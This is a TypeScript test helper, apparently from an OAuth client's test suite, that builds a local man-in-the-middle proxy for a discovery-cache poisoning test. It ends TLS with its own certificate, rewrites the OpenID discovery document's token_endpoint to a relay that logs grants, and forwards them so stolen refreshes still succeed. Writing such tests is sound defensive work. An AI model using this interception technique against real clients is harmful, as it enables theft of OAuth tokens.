/**
 * A man in the middle for the discovery-cache attack (what a run that skipped the TLS check, or trusted an extra
 * CA, cached must never serve a run that did not): a CONNECT proxy that does not tunnel but ends TLS
 * itself with a certificate of its own (which only a run that skips the check, or trusts an extra CA, accepts) and
 * relays every request to the real server, rewriting the discovery document so that its `token_endpoint` points at
 * the attacker's relay. The relay is an HTTPS server of the attacker's with a certificate the victim trusts (as a
 * public CA signs any host's certificate): it records each grant it is sent and passes it on to the real token
 * endpoint, so that a stolen refresh still "succeeds".
 */
import { createServer as createHttpServer, type IncomingMessage, type ServerResponse } from 'node:http';
import { createServer as createHttpsServer, request as httpsRequest, type Server } from 'node:https';
import type { AddressInfo, Socket } from 'node:net';

export interface MitmProxy {
  /** For HTTPS_PROXY of the run under attack. */
  readonly url: string;
  /** The grant_type of every token request that reached the attacker's relay. */
  readonly relayedGrants: string[];
  close(): Promise<void>;
}

export interface MitmOptions {
  /** The certificate the proxy answers every CONNECT with: not one the victim trusts. */
  readonly interceptCert: { cert: string; key: string };
  /** The relay's certificate: one the victim trusts (here the real server's, standing for a public CA's). */
  readonly relayCert: { cert: string; key: string };
  /** The CA of the real server, for the relayed requests. */
  readonly upstreamCa: string;
  /** The real server's origin (https://127.0.0.1:PORT): where the relay passes token requests on. */
  readonly upstream: string;
}

export async function startMitmProxy(options: MitmOptions): Promise<MitmProxy> {
  const relayedGrants: string[] = [];
  let relayOrigin = '';

  const relay: Server = createHttpsServer(options.relayCert, (req, res) => {
    void forward(req, res, options.upstream, (body) => {
      relayedGrants.push(new URLSearchParams(body.toString('utf8')).get('grant_type') ?? '');
    });
  });
  await listen(relay);
  relayOrigin = `https://127.0.0.1:${(relay.address() as AddressInfo).port}`;

  // One TLS server that never listens: each intercepted CONNECT's socket is handed to it.
  const intercept: Server = createHttpsServer(options.interceptCert, (req, res) => {
    // The client names the host it believes it reached, as it did in its CONNECT.
    void forward(req, res, `https://${req.headers.host}`, undefined, (path, text) => {
      if (!path.endsWith('/.well-known/openid-configuration')) return text;
      const doc = JSON.parse(text) as { token_endpoint: string };
      doc.token_endpoint = `${relayOrigin}${new URL(doc.token_endpoint).pathname}`;
      return JSON.stringify(doc);
    });
  });

  const proxy = createHttpServer((_req, res) => res.writeHead(501).end('only CONNECT'));
  proxy.on('connect', (_req: IncomingMessage, client: Socket) => {
    client.on('error', () => client.destroy());
    client.write('HTTP/1.1 200 Connection Established\r\n\r\n', () => intercept.emit('connection', client));
  });
  await listen(proxy);

  return {
    url: `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`,
    relayedGrants,
    close: async () => {
      for (const server of [proxy, relay, intercept]) server.closeAllConnections();
      await Promise.all(
        [proxy, relay].map((server) => new Promise<void>((resolve) => server.close(() => resolve()))),
      );
    },
  };

  /** Passes one request on to `origin` (same path), optionally seeing its body and rewriting the answer. */
  async function forward(
    req: IncomingMessage,
    res: ServerResponse,
    origin: string,
    seeBody?: (body: Buffer) => void,
    rewrite?: (path: string, text: string) => string,
  ): Promise<void> {
    const chunks: Buffer[] = [];
    for await (const chunk of req) chunks.push(chunk as Buffer);
    const body = Buffer.concat(chunks);
    seeBody?.(body);
    const url = new URL(req.url ?? '/', origin);
    const headers = { ...req.headers, host: url.host };
    delete headers['accept-encoding']; // a plain body, so that the discovery document can be rewritten
    const upstream = httpsRequest(
      url,
      { method: req.method, headers, ca: options.upstreamCa },
      async (answer) => {
        const parts: Buffer[] = [];
        for await (const part of answer) parts.push(part as Buffer);
        let out = Buffer.concat(parts);
        if (rewrite) out = Buffer.from(rewrite(url.pathname, out.toString('utf8')));
        const outHeaders = { ...answer.headers };
        delete outHeaders['content-length'];
        delete outHeaders['transfer-encoding'];
        res.writeHead(answer.statusCode ?? 502, { ...outHeaders, 'content-length': out.length });
        res.end(out);
      },
    );
    upstream.on('error', () => res.writeHead(502).end());
    upstream.end(body);
  }
}

function listen(server: import('node:net').Server): Promise<void> {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
}
